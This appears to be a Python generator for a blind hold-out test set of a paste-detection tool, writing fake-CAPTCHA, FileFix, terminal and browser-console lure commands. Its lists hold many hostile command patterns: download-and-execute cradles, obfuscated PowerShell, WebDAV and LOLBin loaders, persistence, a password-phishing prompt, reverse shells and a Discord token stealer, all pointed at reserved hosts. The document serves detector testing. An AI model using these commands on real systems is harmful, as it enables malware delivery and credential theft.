"""BLIND-22: the twenty-second blind hold-out set of PasteGuard, written blind (bench/blind/README.md,
"Blind-22").

Written on 2026-12-07 by the helper "blind22" from public threat reports (ClickFix, FileFix, fake
CAPTCHA, KongTuke, CrashFix, ConsentFix, DNS staging with nslookup, cache smuggling, macOS and Linux
stealer lures, tech-support and callback scams) without reading the rules, the LOLBin catalogue,
the trust list, app/detection (PasteTarget values aside), the case files or any other set's texts.
Every lure text is our own and names reserved hosts only; every benign text is what people really
paste, with the page it was copied from. The own-page installers are real projects' documented
install lines, found in public README files (the README section says how).

Run it from anywhere: `python bench/blind/make_blind22.py` writes lures-22.jsonl and
benign-22.jsonl beside itself, deterministically.
"""

from __future__ import annotations

import hashlib
import sys
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

import blindkit as kit
from blindkit import (
    CON,
    EMSP,
    EXP,
    IDSP,
    NBSP,
    OWN,
    RUN,
    TERM,
    UNK,
    ZWSP,
    Benign,
    Lures,
    b64,
    b64_utf16,
    carets,
    char_codes,
    cmd_slice,
    esc_hex,
    hex_str,
    ip_int,
    js_uni,
    ps_concat,
    ps_format,
    reverse,
    xor_codes,
)

HERE = Path(__file__).resolve().parent
LURES_OUT = HERE / "lures-22.jsonl"
BENIGN_OUT = HERE / "benign-22.jsonl"
PREFIX = "blind22"

# ----------------------------------------------------------------------------------------------
# Lures
# ----------------------------------------------------------------------------------------------

# The pages that write the lures: lookalikes of real services and compromised sites, all on
# reserved names and none sharing a registrable domain with a host a lure fetches from.
PAGE = {
    "cf": "https://cloudflare-turnstile-check.test/cdn-cgi/challenge-platform/h/b/verify",
    "cf2": "https://dash-cloudf1are.example/security/human-check?ray=8c2f9a1e",
    "cf3": "https://ray-id-check.invalid/turnstile/v0/ok",
    "rc": "https://recaptcha-v3-verify.test/anchor?k=6Lc_eQ",
    "rc2": "https://gstatic-captcha.example/recaptcha/api2/bframe",
    "goo": "https://accounts-google-signin.test/v3/signin/challenge/verify",
    "goo2": "https://docs-google-viewer.example/document/d/1xQ9/preview",
    "ms": "https://login-microsoftonline-verify.test/common/reprocess",
    "ms2": "https://office365-secure-docs.example/sharepoint/Shared%20Documents/Q4.aspx",
    "ms3": "https://windows-update-catalog.invalid/kb5049981/repair",
    "book": "https://booking-partner-extranet.test/hotel/reservations/verify?res=4419201",
    "book2": "https://admin-booking-guest.example/messages/complaint/77812",
    "zoom": "https://zoom-us-join.test/j/8291047733?pwd=update",
    "zoom2": "https://zoomworkplace-sdk.example/download/audio-fix",
    "teams": "https://teams-live-meeting.test/l/meetup-join/19%3ameeting_NzQ2",
    "teams2": "https://teams-audio-driver.example/troubleshoot",
    "meet": "https://meet-google-room.invalid/xqa-rbnp-kdz/device-check",
    "docu": "https://docusign-envelope-view.test/Signing/EmailStart.aspx?a=e1f2",
    "wetr": "https://wetransfer-files-preview.example/downloads/8a71c3",
    "adobe": "https://acrobat-reader-plugin.test/viewer/font-pack",
    "chrome": "https://chrome-update-required.example/crash/restore",
    "edge": "https://edge-browser-repair.test/stability/fix",
    "disc": "https://discord-verify-bot.test/oauth/verify/server/48211",
    "disc2": "https://discordapp-captcha.example/guild/verify",
    "steam": "https://steamcommunity-beta.invalid/playtest/invite/55102",
    "game": "https://playtest-nightfall.test/early-access/launcher",
    "tiktok": "https://tiktok-video-mirror.example/@pcfixer/video/7402",
    "yt": "https://youtube-watch-proxy.test/watch?v=activate-office",
    "ai": "https://claude-desktop-download.test/install",
    "ai2": "https://chatgpt-agent-setup.example/windows",
    "ai3": "https://gemini-cli-installer.invalid/get-started",
    "ai4": "https://shared-ai-chat.test/share/6f1e2b7c",
    "driver": "https://realtek-audio-driver-fix.test/hd-audio",
    "driver2": "https://nvidia-driver-hotfix.example/geforce/5092",
    "codec": "https://hevc-codec-free.test/extensions/install",
    "shop": "https://bio-gartenmarkt.example/produkte/hochbeet",
    "shop2": "https://ceramic-studio-lyon.test/boutique/",
    "blog": "https://hiking-trails-journal.example/2026/03/dolomites",
    "news": "https://regional-news-daily.test/article/flood-update",
    "wp": "https://dental-clinic-porto.example/marcacao/",
    "rest": "https://trattoria-milano-menu.test/prenota",
    "church": "https://st-marys-parish.invalid/newsletter",
    "job": "https://careers-portal-hr.example/apply/assessment",
    "bank": "https://secure-bank-notice.test/fraud/check",
    "irs": "https://tax-refund-status.example/verify/id",
    "dhl": "https://parcel-redelivery.test/tracking/JD0142",
    "git": "https://github-security-advisory.test/alerts/critical",
    "npm": "https://npm-registry-status.example/incident/fix",
    "apple": "https://icloud-storage-alert.test/macos/cleanup",
    "apple2": "https://macos-security-update.example/tahoe/26-4-1",
    "brew": "https://homebrew-setup-guide.test/",
    "tails": "https://tailscale-download-mac.example/",
    "crypto": "https://wallet-connect-claim.test/airdrop",
    "linux": "https://ubuntu-forum-fix.example/t/dpkg-lock-error",
    "linux2": "https://kernel-patch-notes.test/cve-2026-1187/mitigate",
    "de": "https://sicherheitspruefung-konto.test/bestaetigen",
    "fr": "https://verification-humain.example/captcha",
    "es": "https://verificacion-segura.test/robot",
    "pt": "https://confirmacao-acesso.example/captcha",
    "it": "https://verifica-umana.test/controllo",
    "pl": "https://weryfikacja-dostepu.example/captcha",
    "ja": "https://ninsho-kakunin.test/captcha",
    "nl": "https://menselijke-controle.example/verifieer",
    "tr": "https://dogrulama-sayfasi.test/robot",
    "ru": "https://proverka-dostupa.example/captcha",
}

# Hosts the lures fetch from (reserved, unrelated to every page above).
H = [
    "cdn-edgecache.test",
    "static-cdnfiles.invalid",
    "update-mirror-7.example",
    "tmpfiles-host.test",
    "syncfile-store.invalid",
    "media-assets-cdn.example",
    "img-proxy-cache.test",
    "relay-node-04.invalid",
    "objstore-eu2.example",
    "fontcdn-pack.test",
    "pkg-updates.invalid",
    "verify-api-gate.example",
    "blob-drop-22.test",
    "appdata-sync.invalid",
    "cloud-fileshare.example",
    "dl-secure-get.test",
    "edge-serve-11.invalid",
    "res-loader.example",
    "cfg-telemetry.test",
    "webdav-docs.invalid",
]
IP = [
    "203.0.113.49",
    "198.51.100.47",
    "192.0.2.139",
    "203.0.113.188",
    "198.51.100.73",
    "192.0.2.250",
    "203.0.113.52",
    "198.51.100.62",
]


def h(i: int) -> str:
    return H[i % len(H)]


def ip(i: int) -> str:
    return IP[i % len(IP)]


TAILS = [
    "# ✅ I am not a robot - reCAPTCHA Verification ID: 4471",
    "# Cloudflare Turnstile: verify you are human (Ray ID 8c2f9a1e7d0b)",
    "''I am human — press Enter to finish verification''",
    "# ✔ Human validation complete. ID: 99-1027-A",
    "# Verification code 582 091 — do not close this window",
    "# hυmаn vаlіdаtіοn pаssеd (rеf 7730)",
    "# Microsoft 365 secure document access - verified",
    "# Press Enter to restore your connection",
    "# Zoom audio device check OK",
    "# Teams media codec repaired",
    "# Booking.com guest identity confirmed #4419201",
    "# DocuSign: open envelope e1f2 securely",
    "# Chrome stability repair tool v3",
    "# Discord server verification step 2/2",
]


def wc_cradle(host: str) -> str:
    return "iex (New-Object Net.WebClient).DownloadString('https://" + host + "/codec.ps1')"


def js_fetch(path: str, then: str = "eval") -> str:
    return 'fetch("https://' + path + '").then(r=>r.text()).then(' + then + ")"


def pad(n: int = 90, ch: str = " ") -> str:
    return ch * n


def build_lures() -> Lures:
    L = Lures()

    # --- A. Run-box lures on live lookalike pages, each a different staging ----------------------
    A = [
        ("cf", f"mshta https://{h(0)}/cf/verify.hta {TAILS[0]}"),
        ("cf2", f'powershell -w h -nop -c "iwr https://{h(1)}/t/ok.ps1 -UseB | iex" {TAILS[1]}'),
        (
            "cf3",
            f'conhost.exe --headless powershell -nop -ep bypass -c "irm {h(2)}/r | iex" {TAILS[3]}',
        ),
        (
            "rc",
            f'cmd /c start /min powershell -w 1 -c "iex(irm https://{h(3)}/captcha/v2)" {TAILS[0]}',
        ),
        (
            "rc2",
            f"rundll32.exe \\\\{h(4)}@SSL\\DavWWWRoot\\verify\\cap.dll,DllRegisterServer {TAILS[4]}",
        ),
        ("goo", f"msiexec /q /i https://{h(5)}/auth/GoogleSignInHelper.msi {TAILS[3]}"),
        ("goo2", f"regsvr32 /s /n /u /i:https://{h(6)}/doc/viewer.sct scrobj.dll {TAILS[6]}"),
        ("ms", f"cmd /c finger verify@{h(7)} | cmd {TAILS[6]}"),
        (
            "ms2",
            f'cmd /c nslookup -q=txt stage.{h(8)} {ip(0)} | findstr "^\\"" > %TEMP%\\s.cmd & %TEMP%\\s.cmd {TAILS[6]}',
        ),
        (
            "ms3",
            f'C:\\Windows\\System32\\SyncAppvPublishingServer.vbs "n;iex(irm https://{h(9)}/kb/fix.txt)" {TAILS[7]}',
        ),
        (
            "book",
            f"cmd /c pushd \\\\{h(10)}@8443\\DavWWWRoot\\guest & start /b verify.bat & popd {TAILS[10]}",
        ),
        (
            "book2",
            f"cmd /c curl.exe -s https://{h(11)}/bk/msg.cmd -o %PUBLIC%\\m.cmd && %PUBLIC%\\m.cmd {TAILS[10]}",
        ),
        (
            "zoom",
            f"cmd /c bitsadmin /transfer zaud /priority foreground https://{h(12)}/zoom/aud.exe %TEMP%\\zaud.exe & start %TEMP%\\zaud.exe {TAILS[8]}",
        ),
        (
            "zoom2",
            f"cmd /c certutil -urlcache -split -f https://{h(13)}/sdk/ZoomAudio.exe %APPDATA%\\za.exe && %APPDATA%\\za.exe {TAILS[8]}",
        ),
        ("teams", f"powershell -w h -enc {b64_utf16(wc_cradle(h(14)))} {TAILS[9]}"),
        (
            "teams2",
            f'forfiles /p C:\\Windows\\System32 /m notepad.exe /c "powershell -w h -c iwr https://{h(15)}/drv.ps1 -useb|iex" {TAILS[9]}',
        ),
        ("meet", f"pcalua.exe -a mshta.exe -c https://{h(16)}/meet/devcheck.hta {TAILS[7]}"),
        ("docu", f"wscript.exe //e:jscript \\\\{h(17)}\\env\\open.txt {TAILS[11]}"),
        ("wetr", f'explorer.exe "\\\\{h(18)}@SSL@443\\DavWWWRoot\\files\\Preview.lnk" {TAILS[6]}'),
        (
            "adobe",
            f"cmd /c net use Q: \\\\{h(19)}@SSL\\DavWWWRoot\\fonts /persistent:no & Q:\\install.cmd {TAILS[3]}",
        ),
        (
            "chrome",
            f'wmic process call create "mshta https://{h(0)}/crash/restore.hta" {TAILS[12]}',
        ),
        (
            "edge",
            f"powershell -c \"$w=New-Object -ComObject WinHttp.WinHttpRequest.5.1;$w.Open('GET','https://{h(1)}/e/r',0);$w.Send();iex $w.ResponseText\" {TAILS[12]}",
        ),
        (
            "disc",
            f"powershell -nop -c \"Add-Type -A System.Net.Http;iex ([Net.Http.HttpClient]::new()).GetStringAsync('https://{h(2)}/dv/2').Result\" {TAILS[13]}",
        ),
        (
            "disc2",
            f"powershell -c \"$i=New-Object -Com WindowsInstaller.Installer;$i.UILevel=2;$i.InstallProduct('https://{h(3)}/g/verify.msi')\" {TAILS[13]}",
        ),
        (
            "steam",
            f'powershell -w h -c "iwr https://{h(4)}/pt/launcher.zip -o $env:TEMP\\l.zip;Expand-Archive $env:TEMP\\l.zip $env:TEMP\\pt -Force;start $env:TEMP\\pt\\Launcher.exe"',
        ),
        ("game", f'cmd /v:on /c "set a=powe&set b=rshell&!a!!b! -w h -c irm {h(5)}/nf/ea | iex"'),
        (
            "shop",
            f'powershell -w h -c "iex([string]::new([char[]]({char_codes(f"irm https://{h(6)}/g | iex")})))" {TAILS[2]}',
        ),
        (
            "shop2",
            f"powershell -nop -c \"iex(-join ('{reverse(f'irm https://{h(7)}/b | iex')}'[-1..-{len(f'irm https://{h(7)}/b | iex')}]))\" {TAILS[0]}",
        ),
        (
            "blog",
            f'powershell -c "iex ({ps_format(f"iwr https://{h(8)}/trail.ps1 -useb")}).Content" {TAILS[1]}',
        ),
        (
            "news",
            f'powershell -w 1 -c "&(gcm i*x) ((New-Object Net.WebClient).DownloadString({ps_concat(f"https://{h(9)}/n/upd")}))" {TAILS[7]}',
        ),
        (
            "wp",
            f"powershell -w h -c \"$u=[Uri]::UnescapeDataString('%68%74%74%70%73%3a%2f%2f{h(10)}%2fm');iex(irm $u)\" {TAILS[4]}",
        ),
        ("rest", f'p^o^w^e^r^s^h^e^l^l -w h -c "i`w`r https://{h(11)}/p -UseB | i`e`x" {TAILS[2]}'),
        (
            "church",
            f'cmd /c "set x=abcdehilmnoprstw& call %x:~11,1%%x:~10,1%%x:~15,1%%x:~4,1%%x:~12,1%%x:~13,1%%x:~5,1%%x:~4,1%%x:~7,1%%x:~7,1% -w h -c irm {h(12)}/nl^|iex"',
        ),
        (
            "job",
            f"powershell -w h -c \"$d=[Convert]::FromBase64String('{kit.xor_b64(f'iex(irm https://{h(13)}/assess)', 23)}');iex(-join($d|%{{[char]($_ -bxor 23)}}))\" {TAILS[3]}",
        ),
        (
            "bank",
            f'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w h -c irm {h(14)}/fr|iex"",0:close") {TAILS[0]}',
        ),
        (
            "irs",
            f"mshta \"javascript:a=new ActiveXObject('WScript.Shell');a.Run('powershell -w h -c irm https://{h(15)}/id | iex',0);close()\" {TAILS[4]}",
        ),
        (
            "dhl",
            f'cmd /c schtasks /create /sc minute /mo 30 /tn "ParcelSync" /tr "mshta https://{h(16)}/p.hta" /f & mshta https://{h(16)}/p.hta {TAILS[7]}',
        ),
        (
            "git",
            f"powershell -w h -c \"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v GhSec /d 'mshta https://{h(17)}/gh.hta' /f; mshta https://{h(17)}/gh.hta\"",
        ),
        (
            "npm",
            f"powershell -c \"Start-Process msiexec -WindowStyle Hidden -ArgumentList '/i https://{h(18)}/nodefix.msi /qn'\" {TAILS[3]}",
        ),
        ("cf", f"cmd /c odbcconf /a {{REGSVR \\\\{h(19)}\\c\\tsv.dll}} {TAILS[1]}"),
        (
            "cf2",
            f'cmd /c "copy %windir%\\system32\\finger.exe %TEMP%\\ct.exe & %TEMP%\\ct.exe gcaptcha@{ip(1)} | cmd"',
        ),
        (
            "rc",
            f"powershell -w h -c \"$r=(Resolve-DnsName -Type TXT v.{h(0)} -Server {ip(2)}).Strings -join '';iex $r\" {TAILS[0]}",
        ),
        (
            "ms",
            f"cmd /c curl -sL https://{h(1)}/py/embed.zip -o %TEMP%\\e.zip & tar -xf %TEMP%\\e.zip -C %TEMP%\\e & %TEMP%\\e\\pythonw.exe %TEMP%\\e\\run.pyw {TAILS[6]}",
        ),
        (
            "teams",
            f"powershell -w h \"saps -Win H msiexec '/package https://{ip(3)}/teams-fix.msi /quiet'\" {TAILS[9]}",
        ),
        (
            "goo",
            f"powershell -ep bypass -w h -c \"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64(f'irm https://{h(2)}/s/c | iex')}')))\" {TAILS[5]}",
        ),
        ("zoom", f'cmd /c "cmstp.exe /s /ns \\\\{h(3)}\\z\\audio.inf" {TAILS[8]}'),
        (
            "docu",
            f'powershell -w h -c "$c=iwr https://{h(4)}/pixel.png -useb;$b=$c.Content[512..($c.Content.Length-1)];iex([Text.Encoding]::ASCII.GetString($b))" {TAILS[11]}',
        ),
        (
            "book",
            f'powershell -w h -c "iwr https://{h(5)}/g.cmd -OutFile $env:TEMP\\g.cmd; cmd /c $env:TEMP\\g.cmd"{pad(40)}{TAILS[10]}',
        ),
        ("steam", f"mshta http://{ip_int(ip(4))}/invite.hta {TAILS[13]}"),
        (
            "chrome",
            f'powershell -w h -c "irm https://{h(6)}/sr | iex"{pad(60, NBSP)}# Restoring your Chrome profile… done',
        ),
        (
            "edge",
            f'cmd /c start "" /min powershell -c "iwr http://{ip(5)}:8080/a -useb|iex" {TAILS[12]}',
        ),
        (
            "disc",
            f"powershell -w h -c \"$p='{hex_str(f'irm https://{h(7)}/v | iex')}';iex(-join($p -split '(..)'|?{{$_}}|%{{[char][convert]::ToInt32($_,16)}}))\"",
        ),
        ("adobe", f"powershell -w h -c \"iex (irm https://{h(8)}/fp).Replace('#','')\" {TAILS[6]}"),
        (
            "wetr",
            f'cmd /c "echo Set o=CreateObject(^"MSXML2.XMLHTTP^"):o.Open ^"GET^",^"https://{h(9)}/w.vbs^",0:o.Send:Execute o.responseText>%TEMP%\\w.vbs & wscript %TEMP%\\w.vbs"',
        ),
        (
            "meet",
            f"cmd /c start ms-appinstaller:?source=https://{h(10)}/meet/DeviceCheck.appinstaller {TAILS[7]}",
        ),
        (
            "cf3",
            f'powershell -w h -c "irm https://{h(12)}/zw | iex" # I{ZWSP}am{ZWSP}not{ZWSP}a{ZWSP}ro{ZWSP}bot - verification 3318',
        ),
    ]
    for page, text in A:
        L.lure("runbox-lookalike-page", RUN, PAGE[page], text)

    # --- B. FileFix: the Explorer address bar, with the path padding ------------------------------
    B = [
        (
            "ms2",
            f'powershell -w h -c "irm https://{h(11)}/f/doc | iex"{pad(120)}# C:\\Company\\Finance\\Q4_Report_2026.docx',
        ),
        (
            "ms2",
            f'cmd /c "curl -s https://{h(12)}/ff.cmd|cmd"{pad(110)}# \\\\fs01\\HR\\Policies\\Travel_Policy.pdf',
        ),
        (
            "docu",
            f"mshta https://{h(13)}/env.hta{pad(100, NBSP)}# C:\\Users\\Public\\Documents\\Signed_Contract.pdf",
        ),
        (
            "wetr",
            f'powershell -nop -c "iwr {h(14)}/t -useb|iex"{pad(80, EMSP)}# C:\\Shared\\Transfer\\photos_march.zip',
        ),
        (
            "goo2",
            f'powershell -c "$f=gci \\"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\"|?{{(gc $_.FullName -Raw) -match \'BEGIN22(.*)END22\'}}|select -f 1;$z=$matches[1];[IO.File]::WriteAllBytes(\\"$env:TEMP\\c.zip\\",[Convert]::FromBase64String($z));Expand-Archive $env:TEMP\\c.zip $env:TEMP\\c -Force;start $env:TEMP\\c\\svc.exe"{pad(60)}# C:\\Company\\Shared\\Budget.xlsx',
        ),
        (
            "ms",
            f'conhost --headless cmd /c "finger doc@{ip(6)}|cmd"{pad(100)}# C:\\Users\\Public\\Invoice_2026-118.pdf',
        ),
        (
            "book",
            f'powershell -w h -c "iex(iwr https://{h(15)}/gst -UseB)"{pad(90, IDSP)}# C:\\Booking\\Guest_Complaint_77812.pdf',
        ),
        (
            "ms3",
            f'"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -w h -c "irm {ip(7)}/kb|iex"{pad(100)}# C:\\Windows\\Logs\\CBS\\repair.log',
        ),
        (
            "adobe",
            f'powershell -w h -c "$x=iwr https://{h(16)}/font.jpg -useb;iex([Text.Encoding]::UTF8.GetString($x.Content[-2048..-1]))"{pad(80)}# C:\\Fonts\\AdobeFontPack.pdf',
        ),
        (
            "teams2",
            f"cmd /c rundll32 \\\\{h(17)}@SSL\\DavWWWRoot\\a\\audio.dll,Start{pad(120)}# C:\\Program Files\\Microsoft\\Teams\\logs.txt",
        ),
        (
            "zoom2",
            f'powershell -w h -c "irm {h(18)}/za|iex" ::{pad(90)}C:\\Users\\Public\\Zoom\\AudioFix.log',
        ),
        (
            "cf",
            f"search-ms:query=Invoice&crumb=location:\\\\{h(19)}@SSL\\DavWWWRoot\\inv&displayname=Downloads",
        ),
        ("ms2", f"\\\\{h(0)}@SSL\\DavWWWRoot\\Shared\\Q4_Report.docx.lnk"),
        (
            "de",
            f'powershell -w h -c "irm https://{h(1)}/de | iex"{pad(110)}# C:\\Firma\\Personal\\Gehaltsabrechnung_11.pdf',
        ),
        (
            "fr",
            f'powershell -w h -c "iwr https://{h(2)}/fr -useb | iex"{pad(110)}# C:\\Entreprise\\Comptabilite\\Facture_0098.pdf',
        ),
        (
            "es",
            f"cmd /c mshta https://{h(3)}/es.hta{pad(110)}# C:\\Empresa\\RRHH\\Nomina_Noviembre.pdf",
        ),
        (
            "job",
            f'powershell.exe -ep Bypass -w Hidden -c "iex (irm https://{h(4)}/cv)"{pad(70, NBSP)}{pad(40)}# C:\\HR\\Candidates\\Resume_J_Doe.pdf',
        ),
        (
            "irs",
            f'cmd /c "echo iex(irm https://{h(5)}/tx)|powershell -w h -"{pad(110)}# C:\\Tax\\2026\\Refund_Form.pdf',
        ),
        (
            "bank",
            f'pow^ersh^ell -w h -c "ir^m https://{h(6)}/st | i^ex"{pad(110)}# C:\\Bank\\Statements\\Nov_2026.pdf',
        ),
        (
            "git",
            f"powershell -w h -nop -c \"iex(New-Object Net.WebClient).DownloadString('https://{h(7)}/adv')\"{pad(100)}# C:\\dev\\security\\advisory-GHSA-22.md",
        ),
        (
            "ms",
            f'cmd /c "nslookup -q=txt fx.{h(8)} {ip(0)} | find \\"iex\\" | powershell -"{pad(110)}# C:\\Users\\Public\\Documents\\Shared.docx',
        ),
        (
            "wetr",
            f'powershell -w h -c "iwr https://{h(9)}/p.zip -o $env:TEMP\\p.zip;Expand-Archive $env:TEMP\\p.zip $env:TEMP\\p;& $env:TEMP\\p\\Photos.exe"{pad(80)}# C:\\Transfer\\photos.zip',
        ),
    ]
    for page, text in B:
        L.lure("filefix-explorer", EXP, PAGE[page], text)

    # --- C. Windows Terminal / Win+X lures ----------------------------------------------------------
    C = [
        ("cf", f"iex (irm https://{h(10)}/wt)  {TAILS[1]}"),
        (
            "rc",
            f'$u="https://{h(11)}/v";[scriptblock]::Create((iwr $u -UseBasicParsing).Content).Invoke()',
        ),
        (
            "ms3",
            f'Start-Process powershell -WindowStyle Hidden -ArgumentList "-nop -c irm {h(12)}/kb | iex"; Write-Host "Update KB5049981 installed"',
        ),
        (
            "teams2",
            f'$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("{kit.gzip_b64(f"iex(irm https://{h(13)}/aud)")}"));iex (New-Object IO.StreamReader(New-Object IO.Compression.GZipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()',
        ),
        (
            "ai2",
            f"irm https://{h(14)}/agent/setup.ps1 | iex  # ChatGPT Agent for Windows — official installer",
        ),
        (
            "driver",
            f'Invoke-Expression (Invoke-RestMethod "https://{h(15)}/rtk/hdaudio.ps1") ; "Realtek HD Audio repaired"',
        ),
        ("driver2", f"& ([scriptblock]::Create((irm https://{h(16)}/gf/hotfix))) -Silent"),
        (
            "codec",
            f'$c=New-Object Net.WebClient;$c.DownloadFile("https://{h(17)}/hevc/HEVCExt.exe","$env:TEMP\\hevc.exe");Start-Process "$env:TEMP\\hevc.exe" -WindowStyle Hidden',
        ),
        ("yt", f"irm https://{h(18)}/office | iex   # activate Office 365 free (works 2026)"),
        ("tiktok", f"iwr -useb {h(19)}/win11pro | iex"),
        (
            "game",
            f"Set-MpPreference -DisableRealtimeMonitoring $true; iwr https://{h(0)}/nf/AntiCheat.exe -OutFile $env:APPDATA\\ac.exe; & $env:APPDATA\\ac.exe",
        ),
        (
            "ai",
            f"Add-MpPreference -ExclusionPath $env:LOCALAPPDATA; irm https://{h(1)}/claude/win | iex",
        ),
    ]
    for page, text in C:
        L.lure("windows-terminal", TERM, PAGE[page], text)

    # --- D. macOS Terminal lures ---------------------------------------------------------------------
    mac_b64 = b64(f"curl -fsSL https://{h(2)}/m/update | zsh")
    D = [
        ("apple", f'/bin/bash -c "$(curl -fsSL https://{h(3)}/icloud/cleanup.sh)"'),
        ("apple2", f'echo "{mac_b64}" | base64 -D | zsh'),
        ("brew", f'/bin/bash -c "$(curl -fsSL https://{h(4)}/Homebrew/install/HEAD/install.sh)"'),
        ("tails", f"curl -fsSL https://{h(5)}/tailscale/mac.sh | bash"),
        ("cf", f"curl -s https://{h(6)}/v/m | osascript"),
        (
            "zoom",
            f"curl -ksSL https://{h(7)}/zoom/sdk_update.sh | zsh  # Zoom SDK update required for audio",
        ),
        (
            "teams",
            f"cd /tmp && curl -sO https://{h(8)}/teams/TeamsAudio.zip && unzip -q TeamsAudio.zip && xattr -cr TeamsAudio.app && open TeamsAudio.app",
        ),
        (
            "ai",
            f"curl -fsSL https://{h(9)}/claude/install.sh | sh  # Claude Desktop for macOS (beta)",
        ),
        ("ai3", f'bash -c "$(curl -fsSL https://{h(10)}/gemini/install)"'),
        (
            "ai4",
            f"curl -o /tmp/cleaner https://{h(11)}/mac/diskcleaner && chmod +x /tmp/cleaner && /tmp/cleaner --free-space",
        ),
        (
            "apple",
            f"osascript -e 'do shell script \"curl -fsSL https://{h(12)}/s | bash\" with administrator privileges'",
        ),
        (
            "apple2",
            f'zsh -c "$(echo {b64(f"curl -s https://{h(13)}/p -o /tmp/.u && chmod +x /tmp/.u && /tmp/.u")} | base64 -d)"',
        ),
        ("git", f"curl -sL https://{h(14)}/ghsa/patch.sh | sudo bash -s -- --fix-keychain"),
        ("npm", f'eval "$(curl -fsSL https://{h(15)}/npm/fix-perms)"'),
        ("crypto", f"curl -s http://{ip(0)}/w/claim | nohup bash >/dev/null 2>&1 &"),
        (
            "job",
            f'open "applescript://com.apple.scripteditor?action=new&script=do%20shell%20script%20%22curl%20-s%20https://{h(16)}/a%20%7C%20sh%22"',
        ),
        (
            "meet",
            f"python3 -c \"import urllib.request as u;exec(u.urlopen('https://{h(17)}/meet/check.py').read())\"",
        ),
        ("steam", f"perl -e 'use LWP::Simple;eval(get(\"https://{h(18)}/mac/pt.pl\"))'"),
        ("cf2", f"echo '{hex_str(f'curl -fsSL https://{h(19)}/x|zsh')}' | xxd -r -p | zsh"),
        (
            "rc",
            f"curl -fsSL https://{h(0)}/d/Installer.dmg -o /tmp/i.dmg && hdiutil attach -nobrowse -quiet /tmp/i.dmg && cp -R /Volumes/Installer/Verify.app /tmp/ && xattr -d com.apple.quarantine /tmp/Verify.app && open /tmp/Verify.app",
        ),
        (
            "apple",
            f'osascript -e \'set p to text returned of (display dialog "macOS needs your password to finish the update" default answer "" with hidden answer)\' -e \'do shell script "curl -s -X POST -d " & quoted form of p & " https://{h(1)}/k"\'',
        ),
        (
            "adobe",
            f"curl -s https://{h(2)}/plist -o ~/Library/LaunchAgents/com.adobe.fontsync.plist && launchctl load ~/Library/LaunchAgents/com.adobe.fontsync.plist",
        ),
        (
            "ms2",
            f"curl -fsSL https://{h(3)}/mso/mac-auth.sh -o /tmp/a.sh; sh /tmp/a.sh; rm /tmp/a.sh  # Microsoft 365 verification for Mac",
        ),
        ("goo", f'/bin/zsh -c "$(curl -fsSL http://{ip(1)}/g)"  # Google account recovery'),
        (
            "yt",
            f"curl -fsSL https://{h(4)}/yt/premium-mac | bash  # unlock YouTube Premium on macOS",
        ),
        (
            "driver",
            f"sudo spctl --master-disable && curl -fsSL https://{h(5)}/codec/mac.pkg -o /tmp/c.pkg && sudo installer -pkg /tmp/c.pkg -target /",
        ),
        ("tiktok", f"curl -sL {h(6)}/fcp | bash  # Final Cut Pro free activation"),
        (
            "ja",
            f"curl -fsSL https://{h(7)}/jp/kakunin.sh | bash  # 認証を完了するにはこのコマンドを実行してください",
        ),
    ]
    for page, text in D:
        L.lure("macos-terminal", TERM, PAGE[page], text, platform="macos")

    # --- E. Linux terminal lures --------------------------------------------------------------------
    E = [
        ("linux", f"curl -s http://{ip(2)}/fix/dpkg.sh | sudo bash"),
        ("linux2", f"wget -qO- https://{h(8)}/cve-2026-1187/mitigate.sh | sudo sh"),
        (
            "git",
            f'bash -c "$(curl -fsSL https://{h(9)}/gh/rotate-token.sh)"  # required: rotate your GitHub token',
        ),
        ("npm", f"curl -fsSL https://{h(10)}/npm/cache-fix | bash -s -- --global"),
        (
            "linux",
            f"python3 -c \"import urllib.request,os;open('/tmp/.x','wb').write(urllib.request.urlopen('https://{h(11)}/x').read());os.chmod('/tmp/.x',0o755);os.system('/tmp/.x &')\"",
        ),
        ("linux2", f"echo {b64(f'curl -s http://{ip(3)}/k | sh')} | base64 -d | sh"),
        ("cf", f"bash -i >& /dev/tcp/{ip(4)}/4444 0>&1"),
        (
            "linux",
            f'(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s https://{h(12)}/c | sh") | crontab -',
        ),
        ("ai3", f"curl -fsSL https://{h(13)}/gemini/linux | sh"),
        (
            "game",
            f"wget -q https://{h(14)}/nf/launcher -O /tmp/launcher && chmod +x /tmp/launcher && nohup /tmp/launcher >/dev/null 2>&1 &",
        ),
        ("linux2", f"$'\\x63\\x75\\x72\\x6c' -s https://{h(15)}/k | $'\\x62\\x61\\x73\\x68'"),
        ("linux", f'echo "{reverse(f"curl -s https://{h(16)}/r | bash")}" | rev | sh'),
        (
            "crypto",
            f"perl -MIO::Socket -e '$c=new IO::Socket::INET(PeerAddr,\"{ip(5)}:8443\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
        ),
        ("git", f"export GH_FIX=$(curl -s https://{h(17)}/gh/t); echo $GH_FIX | base64 -d | bash"),
        ("npm", f"npx --yes https://{h(18)}/pkgs/npm-fix-2026.tgz"),
        (
            "linux2",
            f'sudo bash -c "curl -fsSL https://{h(19)}/k/patch -o /usr/local/bin/kpatch && chmod +x /usr/local/bin/kpatch && kpatch --install"',
        ),
        (
            "ru",
            f"curl -s https://{h(0)}/ru/proverka.sh | sudo bash  # выполните команду для подтверждения доступа",
        ),
        (
            "job",
            f"curl -sSfL https://{h(1)}/assessment/env-check.sh | bash  # technical interview: environment check",
        ),
    ]
    for page, text in E:
        L.lure("linux-terminal", TERM, PAGE[page], text, platform="linux")

    # --- F. Browser console -------------------------------------------------------------------------
    F = [
        ("crypto", f"fetch('https://{h(2)}/claim.js').then(r=>r.text()).then(eval)"),
        ("disc", f"eval(atob('{b64(js_fetch(h(3) + '/d', 't=>eval(t)'))}'))"),
        (
            "disc2",
            f"(webpackChunkdiscord_app.push([[''],{{}},e=>{{m=[];for(let c in e.c)m.push(e.c[c])}}]),m).find(m=>m?.exports?.default?.getToken!==void 0).exports.default.getToken().then?.(t=>fetch('https://{h(4)}/v',{{method:'POST',body:t}}))",
        ),
